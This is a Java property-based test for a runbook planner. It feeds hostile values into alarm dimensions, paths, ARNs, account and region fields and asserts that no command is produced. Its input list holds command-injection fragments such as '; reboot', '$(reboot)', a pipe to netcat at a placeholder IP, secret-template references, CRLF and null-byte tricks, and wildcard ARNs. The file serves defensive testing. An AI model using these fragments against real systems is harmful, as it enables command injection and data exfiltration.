package io.millrace.runbooks.catalog;

import static io.millrace.runbooks.TestEvents.INSTANCE;
import static io.millrace.runbooks.TestEvents.PRODUCTION;
import static io.millrace.runbooks.TestEvents.REGION;
import static io.millrace.runbooks.TestEvents.conditionMet;
import static io.millrace.runbooks.TestEvents.instanceArn;
import static org.assertj.core.api.Assertions.assertThat;

import io.millrace.domain.OpsEvent;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/** Whoever can name a disk, an instance or an alarm cannot put words into a command. */
class HostileValuesTest {
    private static final List<String> PIECES = List.of(
            "; reboot",
            "$(reboot)",
            "`reboot`",
            "| nc 203.0.113.1 80",
            "&& true",
            "{{ssm:secret}}",
            "{{ global:ACCOUNT_ID }}",
            "${IFS}",
            "\n",
            "\r\nInstanceId: *",
            "\u0000",
            "*",
            "?",
            "'",
            "\"",
            "\\",
            "\u202e",
            "\uff0f",
            "\u0456-0c2f5e7a91d34b680",
            " ",
            "<x>",
            "%00",
            "x".repeat(10_240),
            "arn:aws:ec2:eu-west-1:444455556666:instance/i-0c2f5e7a91d34b680",
            "arn:aws:ec2:us-east-1:111122223333:instance/i-0c2f5e7a91d34b680",
            "arn:aws:ec2:*:*:instance/*");

    @Property
    void giveNoCommandAsTargetDimension(@ForAll("hostile") String value) {
        assertRefused(disk(Map.of("dim.InstanceId", value)));
    }

    @Property
    void giveNoCommandAsParameter(@ForAll("hostile") String value) {
        assertRefused(disk(Map.of("dim.path", value)));
        assertRefused(disk(Map.of("dim.path", "/" + value)));
        assertRefused(disk(Map.of("dim.device", "nvme0n1" + value)));
    }

    @Property
    void giveNoCommandAsResource(@ForAll("hostile") String value) {
        assertRefused(disk(Map.of()).setResources(List.of(instanceArn(PRODUCTION, REGION, INSTANCE + value))));
        assertRefused(disk(Map.of()).setResources(List.of(instanceArn(value, REGION, INSTANCE))));
        assertRefused(disk(Map.of()).setResources(List.of(instanceArn(PRODUCTION, value, INSTANCE))));
    }

    @Property
    void giveNoCommandAsAccountOrRegion(@ForAll("hostile") String value) {
        assertRefused(disk(Map.of()).setAccount(value));
        assertRefused(disk(Map.of()).setRegion(value));
        assertRefused(disk(Map.of()).setAccount(PRODUCTION + value));
        assertRefused(disk(Map.of()).setRegion(REGION + value));
    }

    @Property
    void changeNothingAsProseOrAttributesThatNobodyAskedFor(@ForAll("hostile") String value) {
        var calm = disk(Map.of()).build();
        var loud = disk(Map.of("target.id", value, "InstanceId", value, "Path", value, "dim.fstype", value))
                .setTitle(value)
                .setText(value)
                .build();

        assertThat(ShippedRunbooks.plan(loud, 0).command())
                .isEqualTo(ShippedRunbooks.plan(calm, 0).command());
        assertThat(ShippedRunbooks.plan(calm, 0).command()).isPresent();
    }

    @Provide
    Arbitrary<String> hostile() {
        var around = Arbitraries.of("", "/", "nvme0n1", INSTANCE, "i-0dd44ee55ff660011");
        return Arbitraries.of(PIECES)
                .flatMap(piece -> around.flatMap(before -> around.map(after -> before + piece + after)));
    }

    private static OpsEvent.Builder disk(Map<String, String> attributes) {
        var all = new TreeMap<>(Map.of("dim.InstanceId", INSTANCE, "dim.path", "/", "dim.device", "nvme0n1p1"));
        all.putAll(attributes);
        return conditionMet("disk-nearly-full", 97, all);
    }

    private static void assertRefused(OpsEvent.Builder event) {
        var plan = ShippedRunbooks.plan(event.build(), 0);

        assertThat(plan.command()).isEmpty();
        assertThat(plan.refusal().orElseThrow().reason()).matches("[ -~]{1,400}");
    }
}
